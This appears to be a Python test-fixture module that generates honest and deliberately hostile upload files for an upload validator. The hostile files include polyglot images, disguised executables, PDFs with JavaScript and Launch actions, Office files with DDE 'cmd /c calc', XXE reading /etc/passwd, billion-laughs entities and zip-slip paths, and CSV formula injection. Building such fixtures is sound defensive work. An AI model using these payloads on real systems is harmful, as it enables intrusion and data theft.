"""Files made for the tests of uploads: honest ones, and hostile ones of each kind."""

import io
import resource
import struct
import time
import zipfile
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from cdrp_portal.uploads import Received, receive

NAME, PLACE = b"Demo Author", b"demo-place"

PNG_HEAD = b"\x89PNG\r\n\x1a\n"

SCRIPT = b"<script>document.title='x'</script>"

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

EXTERNAL = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
    'Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="{mode}"/></Relationships>'
)


def png(size=(8, 8), **options) -> bytes:
    return _image("PNG", size, **options)


def jpeg(size=(8, 8), **options) -> bytes:
    return _image("JPEG", size, **options)


def _image(kind: str, size: tuple[int, int], *, is_named: bool = False) -> bytes:
    written, image = io.BytesIO(), Image.new("RGB", size, "#1b1a5a")
    exif = Image.Exif()
    if is_named:
        exif[0x013B], exif[0x9C9D] = NAME.decode(), NAME.decode().encode("utf-16-le")
        exif[0x0112] = 6
        exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0), 27: PLACE})
    image.save(written, kind, exif=exif)
    return written.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png() -> bytes:
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return PNG_HEAD + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(4096))) + chunk(b"IEND", b"")


def pdf(**root) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def pdf_with(change) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    written = io.BytesIO()
    document.save(written, **(change(document) or {}))
    return written.getvalue()


def action(kind: str, **more) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def annotated(kind: str):
    def change(document):
        part = pikepdf.Dictionary(
            Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 1, 1]
        )
        document.pages[0].obj["/Annots"] = pikepdf.Array([part])

    return change


def attached(document) -> None:
    document.attachments["a.exe"] = b"MZ"


def locked(document) -> dict:
    return {"encryption": pikepdf.Encryption(owner="demo", user="demo")}


def locked_for_change(document) -> dict:
    return {"encryption": pikepdf.Encryption(owner="demo", user="")}


def archive(parts: dict, *, comment: bytes = b"", before: bytes = b"", method=zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO(before)
    with zipfile.ZipFile(written, "a" if before else "w", method) as packed:
        for name, part in parts.items():
            packed.writestr(name, part)
        packed.comment = comment
    return written.getvalue()


def types(main: str, part: str) -> str:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{main}"/></Types>'
    )


def docx(extra: dict | None = None, *, body: str = "Held", **options) -> bytes:
    parts = {
        "[Content_Types].xml": types(WORD, "word/document.xml"),
        "word/document.xml": f"<w:document {W}><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body>"
        "</w:document>",
    }
    return archive({**parts, **(extra or {})}, **options)


def xlsx(extra: dict | None = None) -> bytes:
    parts = {
        "[Content_Types].xml": types(SHEET, "xl/workbook.xml"),
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    }
    return archive({**parts, **(extra or {})})


def odf(kind: str, extra: dict | None = None) -> bytes:
    office = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    parts = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "content.xml": f"<office:document-content {office}><office:scripts/></office:document-content>",
        "META-INF/manifest.xml": "<manifest/>",
    }
    return archive({**parts, **(extra or {})})


def encrypted(content: bytes) -> bytes:
    """The same archive with every entry's flag saying that it is encrypted."""
    changed = bytearray(content)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = changed.find(signature)
        while found >= 0:
            changed[found + at] |= 1
            found = changed.find(signature, found + 4)
    return bytes(changed)


def billion() -> str:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return f"<!DOCTYPE d [{entities}]><d>&a9;</d>"


def relation(kind: str, target: str, mode: str = "External") -> dict:
    return {"word/_rels/document.xml.rels": EXTERNAL.format(kind=kind, target=target, mode=mode)}


def field(words: str) -> dict:
    text = "".join(f"<w:instrText>{part}</w:instrText>" for part in words.split("|"))
    return {"word/header1.xml": f"<w:hdr {W}>{text}</w:hdr>"}


def hostile() -> list[tuple[str, bytes]]:
    """Sixty files, each of which would do harm, or is not what it says."""
    name_of = pikepdf.Name
    script = action("JavaScript", JS="app.alert(1)")
    return [
        ("page.png", png() + SCRIPT),
        ("comment.png", png()[:-12] + chunk(b"tEXt", b"Comment\0" + SCRIPT) + png()[-12:]),
        ("archive.png", png() + archive({"a.exe": "MZ"})),
        ("paper.png", png()[:-12] + chunk(b"tEXt", b"Comment\0%PDF-1.7") + png()[-12:]),
        ("cut.png", png()[:40]),
        ("huge.png", huge_png()),
        ("jpeg.png", jpeg()),
        ("page.jpg", jpeg()[:2] + b"\xff\xfe\x00\x30" + SCRIPT.ljust(46) + jpeg()[2:]),
        ("archive.jpg", jpeg() + archive({"a.js": "x"})),
        ("cut.jpg", jpeg()[:60]),
        ("page.jpeg", jpeg() + b"<html><body>x"),
        ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'),
        ("drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("drawing.txt", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("page.html", b"<html></html>"),
        ("page.txt", b"  <!DOCTYPE html><p>x"),
        ("page.csv", b"a,b\n1,<iframe src=x>\n"),
        ("shortcut.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(68)),
        ("shortcut.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(68)),
        ("disk.iso", bytes(32768) + b"\x01CD001"),
        ("disk.pdf", bytes(32768) + b"\x01CD001"),
        ("program.exe", b"MZ" + bytes(64)),
        ("program.pdf", b"MZ" + bytes(64)),
        ("program.txt", b"MZ\x90\0\x03" + bytes(64)),
        ("minute.pdf.exe", b"MZ" + bytes(64)),
        ("minute.exe.pdf", pdf()),
        ("minute.js .pdf", pdf()),
        ("minute\u202efdp.exe", b"MZ"),
        ("minute.docm", docx()),
        ("no ending", pdf()),
        (".pdf", pdf()),
        ("empty.pdf", b""),
        ("scripts.pdf", pdf(OpenAction=script)),
        ("launch.pdf", pdf(OpenAction=action("Launch", F="cmd.exe"))),
        ("sends.pdf", pdf(OpenAction=action("SubmitForm", F="https://example.org"))),
        ("nested.pdf", pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script])))),
        ("form.pdf", pdf(AcroForm=pikepdf.Dictionary(XFA="<xdp/>", Fields=[]))),
        ("media.pdf", pdf_with(annotated("RichMedia"))),
        ("attached.pdf", pdf_with(attached)),
        ("locked.pdf", pdf_with(locked)),
        ("locked-for-change.pdf", pdf_with(locked_for_change)),
        ("pages.pdf", pdf(Pages=pikepdf.Dictionary(Type=name_of("/Pages"), Kids=[], Count=0))),
        ("broken.pdf", b"%PDF-1.7\n" + bytes(400)),
        ("archive.pdf", pdf() + archive({"a.exe": "MZ"})),
        ("page.pdf", pdf() + SCRIPT),
        ("macros.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("types.docx", docx({"[Content_Types].xml": types("x.macroEnabled.main+xml", "word/document.xml")})),
        ("embedded.docx", docx({"word/embeddings/a.exe": b"MZ"})),
        ("template.docx", docx(relation("attachedTemplate", "https://example.org/a.dotm"))),
        ("escaped.docx", docx(relation("oleObject", "file://x/y", "&#69;xternal"))),
        ("runs.docx", docx(field("DDE|AUTO cmd /c calc"))),
        ("entities.docx", docx({"word/footer1.xml": billion()})),
        ("fetches.docx", docx({"word/footer1.xml": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'})),
        ("climbs.docx", docx({"../../etc/cron.d/a.xml": "<a/>"})),
        ("locked.docx", encrypted(docx())),
        ("zipped.docx", archive({"a.txt": "x"})),
        ("before.docx", docx(before=b"MZ" + bytes(62))),
        ("swells.xlsx", xlsx({"xl/worksheets/sheet1.xml": b" " * 40_000_000})),
        ("links.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": '<a><ddeLink ddeService="cmd"/></a>'})),
        ("formula.csv", b"name,value\nx,\"=cmd|' /C calc'!A0\"\n"),
        ("formula2.csv", b"name;value\nx;@SUM(1)\n"),
        ("basic.odt", odf("text", {"Basic/Standard/Module1.xml": "<module/>"})),
        ("event.ods", odf("spreadsheet", {"styles.xml": '<a xmlns:script="s"><script:event-listener/></a>'})),
        ("kind.odt", odf("spreadsheet")),
    ]  # fmt: skip


def given(name: str, content: bytes) -> Received:
    return receive(SimpleUploadedFile(name, content))


def tells(content: bytes) -> bool:
    """Whether a name or a place stands in the file, in its parts, or in a picture's EXIF."""
    if content[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(content)) as packed:
            return any(tells(packed.read(name)) for name in packed.namelist())
    if content[:5] == b"%PDF-":
        with pikepdf.open(io.BytesIO(content)) as document:
            streams = [part.read_raw_bytes() for part in document.objects if isinstance(part, pikepdf.Stream)]
            return NAME in content or any(NAME in part or tells(part) for part in streams)
    if content[:3] == b"\xff\xd8\xff" or content.startswith(PNG_HEAD):
        with Image.open(io.BytesIO(content)) as image:
            if image.getexif().get_ifd(0x8825):
                return True
    return any(word in content for word in (NAME, NAME.decode().encode("utf-16-le"), PLACE))


def processor_seconds() -> float:
    """Of this process and of its children: the clock would tell of the machine's other work as well."""
    return time.process_time() + resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
